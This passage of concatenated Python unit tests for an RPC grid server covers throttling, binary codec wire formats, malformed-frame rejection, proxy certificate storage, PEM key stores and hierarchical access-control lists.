    def test_throttle_fault_maps_in_every_codec(self, ca, host_credential,
                                                codec):
        """Each protocol carries RETRY_LATER; the endpoint answers HTTP 429."""

        server = build_server(ca, host_credential,
                              dispatch_rate_limit=0.001, dispatch_burst=1)
        try:
            body = codec.encode_request(RPCRequest("system.ping"))
            first = rpc_post(server, body, content_type=codec.content_type,
                             client_dn=THROTTLED_DN)
            assert first.status == 200
            second = rpc_post(server, body, content_type=codec.content_type,
                              client_dn=THROTTLED_DN)
            assert second.status == 429
            decoded = codec.decode_response(second.body_bytes())
            assert decoded.is_fault
            assert decoded.fault.code == FaultCode.RETRY_LATER
        finally:
            server.close()

    def test_max_inflight_sheds_concurrent_requests(self, ca, host_credential):
        server = build_server(ca, host_credential, dispatch_max_inflight=1)
        try:
            gate = threading.Event()
            entered = threading.Event()

            def block() -> str:
                entered.set()
                gate.wait(10)
                return "done"

            server.registry.register("test.block", block)
            codec = XMLRPCCodec()
            responses: list = []

            def call(method: str) -> None:
                body = codec.encode_request(RPCRequest(method))
                responses.append(rpc_post(server, body,
                                          client_dn=THROTTLED_DN))

            blocker = threading.Thread(target=call, args=("test.block",))
            blocker.start()
            assert entered.wait(5)
            # Same identity, one slot: the second concurrent request sheds.
            body = codec.encode_request(RPCRequest("system.ping"))
            shed = rpc_post(server, body, client_dn=THROTTLED_DN)
            assert shed.status == 429
            gate.set()
            blocker.join(timeout=10)
            assert codec.decode_response(
                responses[0].body_bytes()).unwrap() == "done"
            # The slot was released: the identity is admitted again.
            ok = rpc_post(server, body, client_dn=THROTTLED_DN)
            assert ok.status == 200
        finally:
            server.close()

    def test_anonymous_callers_share_one_bucket(self, ca, host_credential):
        server = build_server(ca, host_credential,
                              dispatch_rate_limit=0.001, dispatch_burst=2)
        try:
            events: list[dict] = []
            server.message_bus.subscribe("dispatch.throttled",
                                         lambda m: events.append(m.payload))
            client = ClarensClient.for_loopback(server.loopback())
            assert client.call("system.ping") == "pong"
            assert client.call("system.ping") == "pong"
            with pytest.raises(Fault) as excinfo:
                client.call("system.ping")
            assert excinfo.value.code == FaultCode.RETRY_LATER
            assert events[0]["identity"] == ANONYMOUS_IDENTITY
            client.close()
        finally:
            server.close()


# -- sharded statistics ---------------------------------------------------------

class TestShardedStats:
    def test_threads_spread_across_shards(self):
        """Distinct threads land on distinct shards (thread idents are
        64-byte-aligned addresses, so a naive ident % shards would not)."""

        from repro.core.pipeline import ShardedDispatchStats

        stats = ShardedDispatchStats(4)
        threads = [threading.Thread(target=stats.record_stage, args=("x", 0.0))
                   for _ in range(4)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=5)
        populated = sum(1 for shard in stats._shards if shard.stage_calls)
        assert populated == 4
        assert stats.snapshot()["stages"]["x"]["calls"] == 4

    def test_exact_counts_under_threaded_load(self, server, loopback):
        n_threads, n_calls = 8, 40
        before = server.pipeline.stats.snapshot()
        errors: list[str] = []

        def worker() -> None:
            client = ClarensClient.for_loopback(loopback)
            try:
                for _ in range(n_calls):
                    if client.call("system.ping") != "pong":
                        errors.append("bad result")
            except Exception as exc:  # noqa: BLE001
                errors.append(repr(exc))
            finally:
                client.close()

        threads = [threading.Thread(target=worker) for _ in range(n_threads)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(timeout=30)
        assert not errors, errors

        after = server.pipeline.stats.snapshot()
        total = n_threads * n_calls
        assert after["requests"] - before["requests"] == total
        assert after["per_method"].get("system.ping", 0) \
            - before["per_method"].get("system.ping", 0) == total
        # Anonymous pings count as anonymous admissions, and none faulted.
        assert after["anonymous_requests"] - before["anonymous_requests"] == total
        assert after["faults"] == before["faults"]
        assert after["total_seconds"] > before["total_seconds"]

    def test_fault_and_stage_accounting(self, server, client):
        with pytest.raises(Fault):
            client.call("no.such.method")
        snapshot = server.pipeline.stats.snapshot()
        assert snapshot["faults"] >= 1
        # The failed request stopped at the session stage (method lookup),
        # so invoke ran strictly fewer times than trace.
        stages = snapshot["stages"]
        assert stages["trace"]["calls"] > stages["invoke"]["calls"]
        assert snapshot["mean_latency_ms"] >= 0.0
