"""Golden-byte tests freezing the binary wire format (``CRB1``).

The binary codec is negotiated between independently-deployed clients and
servers, so its byte layout can never silently drift.  Every expected value
here is a hand-written literal — if an implementation change flips a byte,
these tests fail and the change needs a new protocol version, not a patch to
the expectations.
"""

from __future__ import annotations

import datetime as dt

import pytest

from repro.protocols import (BinaryCodec, Fault, ProtocolError, RPCRequest,
                             RPCResponse, XMLRPCCodec)
from repro.protocols.binary import MAGIC
from repro.protocols.errors import FaultCode

CODEC = BinaryCodec()

#: ``system.ping`` with no params and no call id — the smallest request.
PING_REQUEST = b"CRB1QN\x00\x00\x00\x0bsystem.ping\x00\x00\x00\x00"

#: ``system.echo("hi", 7)`` with call id 3.
ECHO_REQUEST = (b"CRB1Q"
                b"i\x00\x00\x00\x00\x00\x00\x00\x03"       # call_id = 3
                b"\x00\x00\x00\x0bsystem.echo"             # method
                b"\x00\x00\x00\x02"                        # two params
                b"s\x00\x00\x00\x02hi"                     # "hi"
                b"i\x00\x00\x00\x00\x00\x00\x00\x07")      # 7

#: A ``True`` result with no call id.
TRUE_RESULT = b"CRB1RNT"

#: A parse-error fault (code -32700, message "boom") with no call id.
PARSE_FAULT = b"CRB1FN\xff\xff\x80\x44\x00\x00\x00\x04boom"


class TestGoldenFrames:
    def test_request_without_params(self):
        body = CODEC.encode_request(RPCRequest("system.ping"))
        assert body == PING_REQUEST
        decoded = CODEC.decode_request(PING_REQUEST)
        assert decoded.method == "system.ping"
        assert decoded.params == ()
        assert decoded.call_id is None

    def test_request_with_params_and_call_id(self):
        body = CODEC.encode_request(
            RPCRequest("system.echo", ("hi", 7), call_id=3))
        assert body == ECHO_REQUEST
        decoded = CODEC.decode_request(ECHO_REQUEST)
        assert decoded.method == "system.echo"
        assert tuple(decoded.params) == ("hi", 7)
        assert decoded.call_id == 3

    def test_result_frame(self):
        assert CODEC.encode_response(RPCResponse.from_result(True)) == TRUE_RESULT
        decoded = CODEC.decode_response(TRUE_RESULT)
        assert decoded.result is True
        assert not decoded.is_fault

    def test_fault_frame(self):
        response = RPCResponse.from_fault(Fault(FaultCode.PARSE_ERROR, "boom"))
        assert CODEC.encode_response(response) == PARSE_FAULT
        decoded = CODEC.decode_response(PARSE_FAULT)
        assert decoded.is_fault
        assert decoded.fault.code == FaultCode.PARSE_ERROR
        assert decoded.fault.message == "boom"

    @pytest.mark.parametrize("value,expected", [
        (None, b"N"),
        (True, b"T"),
        (False, b"F"),
        (7, b"i\x00\x00\x00\x00\x00\x00\x00\x07"),
        (-1, b"i\xff\xff\xff\xff\xff\xff\xff\xff"),
        (2 ** 70, b"I\x00\x00\x00\x161180591620717411303424"),
        (2.5, b"d\x40\x04\x00\x00\x00\x00\x00\x00"),
        ("hé", b"s\x00\x00\x00\x03h\xc3\xa9"),
        (b"\x00\xff", b"b\x00\x00\x00\x02\x00\xff"),
        (dt.datetime(2005, 6, 14, 12, 30, 45),
         b"t\x00\x00\x00\x132005-06-14T12:30:45"),
        ([1, "a"], b"l\x00\x00\x00\x02"
                   b"i\x00\x00\x00\x00\x00\x00\x00\x01"
                   b"s\x00\x00\x00\x01a"),
        ({"a": None}, b"m\x00\x00\x00\x01\x00\x00\x00\x01aN"),
    ], ids=repr)
    def test_value_encodings(self, value, expected):
        body = CODEC.encode_response(RPCResponse.from_result(value))
        # "CRB1" + "R" + "N" (null call id) precede the value bytes.
        assert body == b"CRB1RN" + expected
        assert CODEC.decode_response(body).result == value

    def test_int64_boundaries_stay_fixed_width(self):
        for boundary in (2 ** 63 - 1, -(2 ** 63)):
            body = CODEC.encode_response(RPCResponse.from_result(boundary))
            assert body[6:7] == b"i"
            assert CODEC.decode_response(body).result == boundary
        # One past the boundary switches to the decimal bigint encoding.
        body = CODEC.encode_response(RPCResponse.from_result(2 ** 63))
        assert body[6:7] == b"I"
        assert CODEC.decode_response(body).result == 2 ** 63


class TestMalformedFrames:
    def test_bad_magic_rejected(self):
        with pytest.raises(ProtocolError, match="bad magic"):
            CODEC.decode_request(b"XXXX" + PING_REQUEST[4:])

    def test_kind_mismatch_rejected(self):
        with pytest.raises(ProtocolError, match="frame kind"):
            CODEC.decode_request(TRUE_RESULT)
        with pytest.raises(ProtocolError, match="frame kind"):
            CODEC.decode_response(PING_REQUEST)

    @pytest.mark.parametrize("frame", [PING_REQUEST, ECHO_REQUEST], ids=("ping", "echo"))
    def test_every_truncation_rejected(self, frame):
        for cut in range(len(MAGIC), len(frame)):
            with pytest.raises(ProtocolError):
                CODEC.decode_request(frame[:cut])

    def test_trailing_bytes_rejected(self):
        with pytest.raises(ProtocolError, match="trailing"):
            CODEC.decode_response(TRUE_RESULT + b"x")

    def test_unknown_value_tag_rejected(self):
        with pytest.raises(ProtocolError, match="tag"):
            CODEC.decode_response(b"CRB1RNz")

    def test_empty_method_name_rejected(self):
        frame = b"CRB1QN\x00\x00\x00\x00\x00\x00\x00\x00"
        with pytest.raises(ProtocolError, match="method name"):
            CODEC.decode_request(frame)

    def test_invalid_utf8_method_rejected(self):
        frame = b"CRB1QN\x00\x00\x00\x01\xff\x00\x00\x00\x00"
        with pytest.raises(ProtocolError, match="UTF-8"):
            CODEC.decode_request(frame)

    def test_invalid_bigint_rejected(self):
        with pytest.raises(ProtocolError, match="bigint"):
            CODEC.decode_response(b"CRB1RNI\x00\x00\x00\x03abc")

    def test_nesting_limit_enforced_on_decode(self):
        # A hand-built hostile frame: 70 nested single-element arrays.  The
        # type model refuses to *encode* this deep, so the decoder's own
        # limit is what protects the server from wire input.
        frame = b"CRB1RN" + b"l\x00\x00\x00\x01" * 70 + b"N"
        with pytest.raises(ProtocolError, match="nesting"):
            CODEC.decode_response(frame)

    def test_non_string_struct_key_rejected_on_encode(self):
        with pytest.raises(ProtocolError):
            CODEC.encode_response(RPCResponse.from_result({1: "x"}))

    def test_unencodable_type_rejected(self):
        with pytest.raises(ProtocolError):
            CODEC.encode_response(RPCResponse.from_result(object()))


class TestTransitRecovery:
    def test_str_body_recovered_via_latin1(self):
        """A transport that re-decoded the body as text must still parse."""

        body = CODEC.encode_response(RPCResponse.from_result([1, b"\x00\xff"]))
        assert CODEC.decode_response(body.decode("latin-1")).result == [1, b"\x00\xff"]

    def test_uncorrupted_str_body_with_non_latin1_rejected(self):
        with pytest.raises(ProtocolError, match="corrupted"):
            CODEC.decode_response("CRB1R☃")


class TestMulticallFastPath:
    """The batch encoder must stay byte-identical to the generic path."""

    CALLS = [("system.echo", ["a", 1]),
             ("system.ping", []),
             ("file.read", ["/data/events.dat", 0, 65536])]

    @pytest.mark.parametrize("codec", [BinaryCodec(), XMLRPCCodec()],
                             ids=("binary", "xml-rpc"))
    def test_byte_identical_to_generic_encode(self, codec):
        entries = [{"methodName": method, "params": list(params)}
                   for method, params in self.CALLS]
        generic = codec.encode_request(
            RPCRequest("system.multicall", (entries,), call_id=9))
        assert codec.encode_multicall(self.CALLS, call_id=9) == generic

    def test_decodes_like_a_normal_multicall(self):
        body = CODEC.encode_multicall(self.CALLS)
        decoded = CODEC.decode_request(body)
        assert decoded.method == "system.multicall"
        assert decoded.params[0][0] == {"methodName": "system.echo",
                                        "params": ["a", 1]}


class TestFragmentSplice:
    """The spliceable fragment API backing the pipeline's response memo."""

    @pytest.mark.parametrize("result", [
        None, "pong", ["a", "b", "c"], {"k": ["x", b"\x00"]},
        [f"system.method_{i}" for i in range(40)],
    ], ids=("none", "str", "list", "dict", "method-list"))
    @pytest.mark.parametrize("call_id", [None, 7], ids=("no-id", "id"))
    def test_spliced_frame_is_byte_identical(self, result, call_id):
        fragment = CODEC.encode_result_fragment(result)
        spliced = CODEC.encode_response_from_fragment(call_id, fragment)
        assert spliced == CODEC.encode_response(
            RPCResponse.from_result(result, call_id=call_id))
        assert CODEC.decode_response(spliced).result == result

    def test_fragment_encode_rejects_unencodable_values(self):
        with pytest.raises(ProtocolError):
            CODEC.encode_result_fragment(object())

    def test_encoder_enforces_the_nesting_limit(self):
        """The encoder honours the same 64-level cap as the decoder and
        ``validate_value``, so a pipeline that skips the validation walk can
        never emit a frame its own decoder would reject."""

        hostile: list = []
        tip = hostile
        for _ in range(70):
            tip.append([])
            tip = tip[0]
        with pytest.raises(ProtocolError, match="nesting exceeds"):
            CODEC.encode_result_fragment(hostile)

    def test_deepest_legal_value_round_trips(self):
        value: list = ["leaf"]
        for _ in range(63):                    # 64 nested containers total
            value = [value]
        body = CODEC.encode_response(
            RPCResponse.from_result(value, call_id=None))
        assert CODEC.decode_response(body).result == value
