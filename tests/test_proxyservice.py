"""The proxy service: store, retrieve, login, attach, delegate."""

from __future__ import annotations

import pytest

from repro.pki.proxy import ProxyCertificate, issue_proxy
from repro.proxyservice.store import ProxyStore, ProxyStoreError
from repro.protocols.errors import Fault, FaultCode
from repro.database import Database


class TestProxyStore:
    @pytest.fixture()
    def store(self):
        return ProxyStore(Database())

    @pytest.fixture()
    def proxy(self, alice_credential):
        return issue_proxy(alice_credential, lifetime=3600.0)

    def test_store_and_retrieve(self, store, proxy, alice_credential):
        dn = str(alice_credential.certificate.subject)
        store.store(dn, proxy, "s3cret")
        restored = store.retrieve(dn, "s3cret")
        assert restored.certificate == proxy.certificate
        assert restored.owner_dn == proxy.owner_dn

    def test_wrong_password_rejected(self, store, proxy, alice_credential):
        dn = str(alice_credential.certificate.subject)
        store.store(dn, proxy, "s3cret")
        with pytest.raises(ProxyStoreError, match="password"):
            store.retrieve(dn, "wrong")

    def test_missing_proxy_rejected(self, store):
        with pytest.raises(ProxyStoreError, match="no proxy stored"):
            store.retrieve("/O=x/CN=ghost", "pw")

    def test_empty_password_rejected(self, store, proxy, alice_credential):
        with pytest.raises(ProxyStoreError):
            store.store(str(alice_credential.certificate.subject), proxy, "")

    def test_stored_blob_is_not_plaintext(self, store, proxy, alice_credential):
        dn = str(alice_credential.certificate.subject)
        store.store(dn, proxy, "s3cret")
        record = store._table.get(dn)
        assert "proxy" not in record["blob"]
        assert format(proxy.credential.private_key.d, "x") not in record["blob"]

    def test_info_and_owners(self, store, proxy, alice_credential):
        dn = str(alice_credential.certificate.subject)
        store.store(dn, proxy, "pw")
        info = store.info(dn)
        assert info is not None and info["delegation_depth"] == 1
        assert store.owners() == [dn]
        assert store.info("/O=x/CN=none") is None

    def test_delete_and_purge(self, store, proxy, alice_credential):
        dn = str(alice_credential.certificate.subject)
        store.store(dn, proxy, "pw")
        assert store.delete(dn)
        assert not store.delete(dn)
        store.store(dn, proxy, "pw")
        assert store.purge_expired(when=proxy.certificate.not_after + 10) == 1


class TestProxyServiceRPC:
    @pytest.fixture()
    def stored_proxy(self, anon_client, alice_credential):
        proxy = issue_proxy(alice_credential, lifetime=3600.0)
        anon_client.call("proxy.store", proxy.to_dict(), "grid-pass")
        return proxy

    def test_store_rejects_untrusted_proxy(self, anon_client):
        from repro.pki.authority import CertificateAuthority

        rogue = CertificateAuthority("/O=rogue/CN=Rogue CA", key_bits=512)
        forged = issue_proxy(rogue.issue_user("Mallory"))
        with pytest.raises(Fault) as excinfo:
            anon_client.call("proxy.store", forged.to_dict(), "pw")
        assert excinfo.value.code == FaultCode.AUTHENTICATION_REQUIRED

    def test_login_with_dn_and_password_only(self, stored_proxy, anon_client, alice_credential):
        dn = str(alice_credential.certificate.subject)
        session = anon_client.call("proxy.login", dn, "grid-pass")
        assert session["dn"] == dn and session["method"] == "proxy"

    def test_login_with_wrong_password_fails(self, stored_proxy, anon_client, alice_credential):
        with pytest.raises(Fault):
            anon_client.call("proxy.login", str(alice_credential.certificate.subject), "nope")

    def test_retrieve_returns_usable_proxy(self, stored_proxy, anon_client, alice_credential):
        dn = str(alice_credential.certificate.subject)
        data = anon_client.call("proxy.retrieve", dn, "grid-pass")
        restored = ProxyCertificate.from_dict(data)
        assert restored.owner_dn == dn

    def test_attach_renews_session_and_records_delegation(self, stored_proxy, client,
                                                          alice_credential, server):
        dn = str(alice_credential.certificate.subject)
        result = client.call("proxy.attach", dn, "grid-pass")
        assert result["proxy_not_after"] > 0
        session = server.sessions.validate(client.session_id)
        assert session.attributes["proxy"]["owner_dn"] == dn

    def test_attach_rejects_other_users_proxy(self, stored_proxy, server, loopback,
                                              bob_credential, alice_credential):
        from repro.client.client import ClarensClient

        bob = ClarensClient.for_loopback(loopback)
        bob.login_with_credential(bob_credential)
        with pytest.raises(Fault) as excinfo:
            bob.call("proxy.attach", str(alice_credential.certificate.subject), "grid-pass")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_delegate_produces_deeper_limited_proxy(self, stored_proxy, client, alice_credential,
                                                    server):
        dn = str(alice_credential.certificate.subject)
        delegated = client.call("proxy.delegate", dn, "grid-pass", 600.0, True)
        proxy = ProxyCertificate.from_dict(delegated)
        assert proxy.delegation_depth == 2
        assert proxy.limited
        # The delegated proxy is good enough to log in with.
        session = server.authenticator.login_with_proxy(proxy)
        assert session.dn == dn

    def test_info_and_delete_scoping(self, stored_proxy, client, admin_client,
                                     alice_credential):
        dn = str(alice_credential.certificate.subject)
        assert client.call("proxy.info", "")["owner_dn"] == dn
        assert admin_client.call("proxy.list_owners") == [dn]
        with pytest.raises(Fault):
            client.call("proxy.list_owners")
        assert client.call("proxy.delete", "") is True
        with pytest.raises(Fault):
            client.call("proxy.info", "")

    def test_proxy_login_then_call_protected_method(self, stored_proxy, anon_client,
                                                    alice_credential):
        dn = str(alice_credential.certificate.subject)
        anon_client.login_with_stored_proxy(dn, "grid-pass")
        assert anon_client.call("system.whoami")["dn"] == dn
