"""Credential bundles, PEM armoring and the key store."""

from __future__ import annotations

import pytest

from repro.pki import pem
from repro.pki.authority import CertificateAuthority
from repro.pki.certificate import CertificateError
from repro.pki.credentials import Credential, KeyStore


@pytest.fixture(scope="module")
def authority():
    return CertificateAuthority("/O=grid.test/CN=Credential CA", key_bits=512)


@pytest.fixture(scope="module")
def credential(authority):
    return authority.issue_user("Kay Keystore")


class TestPEM:
    def test_encode_decode_round_trip(self):
        text = pem.encode("CLARENS CERTIFICATE", b"payload bytes")
        label, payload = pem.decode(text)
        assert label == "CLARENS CERTIFICATE"
        assert payload == b"payload bytes"

    def test_multiple_blocks(self):
        text = pem.encode("A BLOCK", b"one") + pem.encode("B BLOCK", b"two")
        blocks = list(pem.decode_all(text))
        assert [b[0] for b in blocks] == ["A BLOCK", "B BLOCK"]
        assert [b[1] for b in blocks] == [b"one", b"two"]

    def test_long_payload_wraps_lines(self):
        text = pem.encode("DATA", b"x" * 1000)
        body_lines = [l for l in text.splitlines() if not l.startswith("-----")]
        assert all(len(line) <= 64 for line in body_lines)

    def test_missing_end_marker_rejected(self):
        with pytest.raises(pem.PEMError):
            list(pem.decode_all("-----BEGIN DATA-----\nAAAA\n"))

    def test_invalid_base64_rejected(self):
        with pytest.raises(pem.PEMError):
            list(pem.decode_all("-----BEGIN DATA-----\n@@@@\n-----END DATA-----\n"))

    def test_no_blocks_rejected(self):
        with pytest.raises(pem.PEMError):
            pem.decode("just some text")

    def test_lowercase_label_rejected(self):
        with pytest.raises(pem.PEMError):
            pem.encode("lowercase", b"x")

    def test_wrong_expected_label(self):
        text = pem.encode("A BLOCK", b"one")
        with pytest.raises(pem.PEMError):
            pem.decode(text, expected_label="B BLOCK")

    def test_empty_payload_round_trip(self):
        label, payload = pem.decode(pem.encode("EMPTY", b""))
        assert label == "EMPTY" and payload == b""


class TestCredential:
    def test_dict_round_trip(self, credential):
        restored = Credential.from_dict(credential.to_dict())
        assert restored.certificate == credential.certificate
        assert restored.private_key == credential.private_key
        assert restored.chain == tuple(credential.chain)

    def test_pem_round_trip(self, credential):
        restored = Credential.from_pem(credential.to_pem())
        assert restored.certificate == credential.certificate
        assert len(restored.chain) == len(credential.chain)

    def test_pem_without_key_rejected(self, credential):
        import json

        text = pem.encode("CLARENS CERTIFICATE",
                          json.dumps(credential.certificate.to_dict()).encode())
        with pytest.raises(CertificateError):
            Credential.from_pem(text)

    def test_malformed_dict_rejected(self):
        with pytest.raises(CertificateError):
            Credential.from_dict({"certificate": {}})

    def test_sign_uses_private_key(self, credential):
        signature = credential.sign(b"message")
        assert credential.certificate.public_key.verify(b"message", signature)

    def test_full_chain_order(self, credential):
        chain = credential.full_chain()
        assert chain[0] == credential.certificate
        assert chain[-1].is_ca


class TestKeyStore:
    def test_save_and_load(self, tmp_path, credential):
        store = KeyStore(tmp_path)
        store.save("kay", credential)
        restored = store.load("kay")
        assert restored.certificate == credential.certificate
        assert "kay" in store and len(store) == 1

    def test_load_missing_alias(self, tmp_path):
        with pytest.raises(KeyError):
            KeyStore(tmp_path).load("absent")

    def test_delete(self, tmp_path, credential):
        store = KeyStore(tmp_path)
        store.save("kay", credential)
        assert store.delete("kay")
        assert not store.delete("kay")
        assert "kay" not in store

    def test_aliases_sorted(self, tmp_path, credential):
        store = KeyStore(tmp_path)
        store.save("zeta", credential)
        store.save("alpha", credential)
        assert store.aliases() == ["alpha", "zeta"]

    def test_alias_sanitisation(self, tmp_path, credential):
        store = KeyStore(tmp_path)
        path = store.save("weird/alias name", credential)
        assert "/" not in path.name.replace(".pem", "")
        with pytest.raises(ValueError):
            store.save("///", credential)

    def test_private_key_file_permissions(self, tmp_path, credential):
        store = KeyStore(tmp_path)
        path = store.save("kay", credential)
        assert (path.stat().st_mode & 0o077) == 0
