"""Access-control lists: single-ACL evaluation, hierarchy, file ACLs, service."""

from __future__ import annotations

import pytest
from hypothesis import given, settings, strategies as st

from repro.acl.evaluator import ACLManager
from repro.acl.model import ACL, ACLError, FileACL, Order, Verdict
from repro.database import Database
from repro.protocols.errors import Fault
from repro.vo.model import VOManager

ADMIN = "/O=acl.test/OU=People/CN=Acl Admin"
ALICE = "/O=acl.test/OU=People/CN=Alice"
BOB = "/O=acl.test/OU=People/CN=Bob"
CAROL = "/O=acl.test/OU=Staff/CN=Carol"


def make_manager(**kwargs):
    db = Database()
    vo = VOManager(db, admins=[ADMIN])
    vo.create_group("cms", members=[ALICE], actor_dn=ADMIN)
    vo.create_group("cms.admins", members=[BOB], actor_dn=ADMIN)
    manager = ACLManager(db, membership=vo.is_member, is_admin=lambda dn: vo.is_admin(dn),
                         **kwargs)
    return manager, vo


class TestSingleACL:
    def no_groups(self, group):
        return False

    def test_dn_allow(self):
        acl = ACL(order="allow,deny", dns_allowed=[ALICE])
        assert acl.evaluate(ALICE, self.no_groups) is Verdict.ALLOW
        assert acl.evaluate(BOB, self.no_groups) is Verdict.ABSTAIN

    def test_dn_deny(self):
        acl = ACL(order="allow,deny", dns_denied=[BOB])
        assert acl.evaluate(BOB, self.no_groups) is Verdict.DENY

    def test_allow_deny_order_deny_wins_on_both(self):
        acl = ACL(order="allow,deny", dns_allowed=[ALICE], dns_denied=[ALICE])
        assert acl.evaluate(ALICE, self.no_groups) is Verdict.DENY

    def test_deny_allow_order_allow_wins_on_both(self):
        acl = ACL(order="deny,allow", dns_allowed=[ALICE], dns_denied=[ALICE])
        assert acl.evaluate(ALICE, self.no_groups) is Verdict.ALLOW

    def test_dn_prefix_matches(self):
        acl = ACL(dns_allowed=["/O=acl.test/OU=People"])
        assert acl.evaluate(ALICE, self.no_groups) is Verdict.ALLOW
        assert acl.evaluate(CAROL, self.no_groups) is Verdict.ABSTAIN

    def test_wildcard_matches_everyone(self):
        acl = ACL.allow_all()
        assert acl.evaluate("/O=anything/CN=whoever", self.no_groups) is Verdict.ALLOW

    def test_group_lists_consult_membership_callback(self):
        acl = ACL(groups_allowed=["cms"], groups_denied=["banned"])
        assert acl.evaluate(ALICE, lambda g: g == "cms") is Verdict.ALLOW
        assert acl.evaluate(ALICE, lambda g: g == "banned") is Verdict.DENY
        assert acl.evaluate(ALICE, lambda g: False) is Verdict.ABSTAIN

    def test_order_parse_variants_and_errors(self):
        assert Order.parse("Allow, Deny") is Order.ALLOW_DENY
        assert Order.parse("deny,allow") is Order.DENY_ALLOW
        with pytest.raises(ACLError):
            Order.parse("first-come-first-served")

    def test_record_round_trip(self):
        acl = ACL(order="deny,allow", dns_allowed=[ALICE], groups_denied=["x"])
        assert ACL.from_record(acl.to_record()).to_record() == acl.to_record()

    def test_file_acl_operations(self):
        facl = FileACL(read=ACL.allow_all(), write=ACL(dns_allowed=[ALICE]))
        assert facl.acl_for("read").evaluate(BOB, lambda g: False) is Verdict.ALLOW
        assert facl.acl_for("write").evaluate(BOB, lambda g: False) is Verdict.ABSTAIN
        with pytest.raises(ACLError):
            facl.acl_for("execute")
        assert FileACL.from_record(facl.to_record()).to_record() == facl.to_record()


class TestHierarchicalEvaluation:
    def test_default_allows_authenticated_when_no_acl(self):
        manager, _ = make_manager()
        assert manager.check_method(ALICE, "file.read").allowed

    def test_default_deny_mode(self):
        manager, _ = make_manager(default_allow_authenticated=False)
        assert not manager.check_method(ALICE, "file.read").allowed

    def test_grant_at_module_level_covers_methods(self):
        manager, _ = make_manager(default_allow_authenticated=False)
        manager.set_method_acl("file", ACL(groups_allowed=["cms"]))
        assert manager.check_method(ALICE, "file.read").allowed
        assert manager.check_method(ALICE, "file.sub.deep.read").allowed
        assert not manager.check_method(CAROL, "file.read").allowed

    def test_specific_deny_overrides_higher_level_grant(self):
        # "A DN or group granted access to a higher level method automatically
        # has access to a lower level method, unless specifically denied at
        # the lower level."
        manager, _ = make_manager()
        manager.set_method_acl("file", ACL(groups_allowed=["cms"]))
        manager.set_method_acl("file.delete", ACL(order="allow,deny", dns_denied=[ALICE]))
        assert manager.check_method(ALICE, "file.read").allowed
        decision = manager.check_method(ALICE, "file.delete")
        assert not decision.allowed and decision.decided_by == "file.delete"

    def test_specific_allow_overrides_higher_level_deny(self):
        manager, _ = make_manager()
        manager.set_method_acl("job", ACL(order="allow,deny", dns_denied=[BOB]))
        manager.set_method_acl("job.status", ACL(dns_allowed=[BOB]))
        assert manager.check_method(BOB, "job.status").allowed
        assert not manager.check_method(BOB, "job.submit").allowed

    def test_protected_hierarchy_denies_unlisted_dn(self):
        manager, _ = make_manager()
        manager.set_method_acl("vo", ACL(dns_allowed=[BOB]))
        decision = manager.check_method(CAROL, "vo.create_group")
        assert not decision.allowed
        assert "no applicable ACL" in decision.reason

    def test_server_admin_always_allowed(self):
        manager, _ = make_manager(default_allow_authenticated=False)
        manager.set_method_acl("file", ACL(dns_denied=[ADMIN], order="allow,deny"))
        assert manager.check_method(ADMIN, "file.read").allowed

    def test_file_acl_hierarchy_and_rw_split(self):
        manager, _ = make_manager(default_allow_authenticated=False)
        manager.set_file_acl("/data", FileACL(read=ACL(groups_allowed=["cms"]),
                                              write=ACL(dns_allowed=[BOB])))
        assert manager.check_file(ALICE, "/data/cms/run1.root", "read").allowed
        assert not manager.check_file(ALICE, "/data/cms/run1.root", "write").allowed
        assert manager.check_file(BOB, "/data/new.root", "write").allowed
        assert not manager.check_file(CAROL, "/data/run1.root", "read").allowed

    def test_file_deny_at_lower_path_level(self):
        manager, _ = make_manager()
        manager.set_file_acl("/", FileACL(read=ACL.allow_all(), write=ACL.allow_all()))
        manager.set_file_acl("/private", FileACL(read=ACL(order="allow,deny", dns_denied=[ALICE]),
                                                 write=ACL(order="allow,deny", dns_denied=[ALICE])))
        assert manager.check_file(ALICE, "/public/x.txt", "read").allowed
        assert not manager.check_file(ALICE, "/private/x.txt", "read").allowed

    def test_invalid_operation_rejected(self):
        manager, _ = make_manager()
        with pytest.raises(ACLError):
            manager.check_file(ALICE, "/x", "execute")

    def test_duplicate_slashes_see_same_acls(self):
        # "/data//cms/run1.root" must walk the same hierarchy levels as its
        # normalized spelling, so an ACL on /data/cms is not skipped.
        manager, _ = make_manager(default_allow_authenticated=False)
        manager.set_file_acl("/data/cms", FileACL(read=ACL(dns_allowed=[ALICE]),
                                                  write=ACL()))
        assert manager.check_file(ALICE, "/data//cms/run1.root", "read").allowed
        assert manager.check_file(ALICE, "/data/cms/run1.root/", "read").allowed
        assert not manager.check_file(ALICE, "//elsewhere//x", "read").allowed

    def test_file_acl_keys_are_normalized_on_write(self):
        manager, _ = make_manager()
        manager.set_file_acl("/data//cms/", FileACL(read=ACL(dns_allowed=[ALICE]),
                                                    write=ACL()))
        assert list(manager.list_file_acls()) == ["/data/cms"]
        assert manager.get_file_acl("/data/cms") is not None
        assert manager.get_file_acl("//data//cms") is not None
        assert manager.remove_file_acl("/data/cms/")
        assert manager.list_file_acls() == {}

    def test_persisted_unnormalized_keys_are_swept_on_open(self):
        # Records stored under duplicate-slash keys by older versions are
        # re-keyed when the manager opens the table, so they stay enforced.
        db = Database()
        db.table("acl_files").put("/data//secret",
                                  FileACL(read=ACL(dns_allowed=[ALICE]),
                                          write=ACL()).to_record())
        vo = VOManager(db, admins=[ADMIN])
        manager = ACLManager(db, membership=vo.is_member,
                             is_admin=lambda dn: vo.is_admin(dn),
                             default_allow_authenticated=False)
        assert list(manager.list_file_acls()) == ["/data/secret"]
        assert manager.check_file(ALICE, "/data/secret/x", "read").allowed
        assert manager.remove_file_acl("/data/secret")

    def test_method_level_rejects_empty_segments(self):
        manager, _ = make_manager()
        for bad in ("", ".file", "file.", "a..b", "a...b", "."):
            with pytest.raises(ACLError):
                manager.set_method_acl(bad, ACL.allow_all())
        manager.set_method_acl("a.b", ACL.allow_all())
        assert manager.get_method_acl("a.b") is not None

    def test_acl_administration_requires_admin(self):
        manager, _ = make_manager()
        with pytest.raises(ACLError):
            manager.set_method_acl("file", ACL.allow_all(), actor_dn=ALICE)
        manager.set_method_acl("file", ACL.allow_all(), actor_dn=ADMIN)
        assert manager.get_method_acl("file") is not None
        assert manager.remove_method_acl("file", actor_dn=ADMIN)

    def test_list_acls(self):
        manager, _ = make_manager()
        manager.set_method_acl("file", ACL.allow_all())
        manager.set_file_acl("/data", FileACL())
